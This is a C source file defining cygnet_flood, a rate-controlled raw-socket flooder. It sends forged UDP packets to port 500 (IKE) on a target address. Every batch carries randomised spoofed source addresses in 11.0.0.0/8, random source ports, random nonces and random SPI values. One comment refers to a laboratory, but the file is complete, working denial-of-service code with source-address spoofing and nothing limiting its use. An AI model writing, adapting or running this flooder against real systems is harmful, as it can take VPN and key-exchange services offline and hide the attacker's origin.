#define _GNU_SOURCE
#include "FloodSender.h"

#include <errno.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 32, HEADERS = 28, LIMIT = 1500 };

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

// xorshift64*: what is forged need not be unpredictable, only never twice the same.
static uint64_t next(uint64_t *state) {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    return *state * 0x2545f4914f6cdd1dULL;
}

static void put16(uint8_t *at, size_t value) {
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

int64_t cygnet_flood(const uint8_t target[4], const uint8_t *message, size_t count, size_t nonce, double per_second,
                     double seconds) {
    if (count + HEADERS > LIMIT || count < 28 || nonce + 32 > count) return -EINVAL;
    int raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (raw < 0) return -errno;

    static _Thread_local uint8_t packets[BATCH][LIMIT];
    struct mmsghdr headers[BATCH];
    struct iovec vectors[BATCH];
    struct sockaddr_in destination = {.sin_family = AF_INET};
    memcpy(&destination.sin_addr, target, 4);
    memset(headers, 0, sizeof headers);
    for (int index = 0; index < BATCH; index++) {
        uint8_t *packet = packets[index];
        memset(packet, 0, HEADERS);
        packet[0] = 0x45;
        put16(packet + 2, HEADERS + count);
        packet[8] = 64;
        packet[9] = IPPROTO_UDP;
        memcpy(packet + 16, target, 4);
        put16(packet + 22, 500);
        put16(packet + 24, 8 + count);
        memcpy(packet + HEADERS, message, count);
        vectors[index] = (struct iovec){packet, HEADERS + count};
        headers[index].msg_hdr.msg_iov = &vectors[index];
        headers[index].msg_hdr.msg_iovlen = 1;
        headers[index].msg_hdr.msg_name = &destination;
        headers[index].msg_hdr.msg_namelen = sizeof destination;
    }

    uint64_t state = 0x9e3779b97f4a7c15ULL ^ (uint64_t)(now() * 1e9);
    int64_t sent = 0;
    double begin = now();
    for (double time = begin; time < begin + seconds; time = now()) {
        if ((double)sent >= (time - begin) * per_second) {
            usleep(100);
            continue;
        }
        for (int index = 0; index < BATCH; index++) {
            uint8_t *packet = packets[index];
            uint64_t random = next(&state);
            // 11.0.0.0/8: nobody in the laboratory has such an address.
            packet[12] = 11;
            memcpy(packet + 13, &random, 3);
            put16(packet + 20, 1024 + (random >> 32) % 60000);
            for (int octet = 0; octet < 32; octet += 8) {
                uint64_t part = next(&state);
                memcpy(packet + HEADERS + nonce + octet, &part, 8);
            }
            uint64_t spi = next(&state) | 1;
            memcpy(packet + HEADERS, &spi, 8);
        }
        int done = sendmmsg(raw, headers, BATCH, 0);
        if (done > 0) {
            sent += done;
        } else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
            int error = errno;
            close(raw);
            return -error;
        }
    }
    close(raw);
    return sent;
}
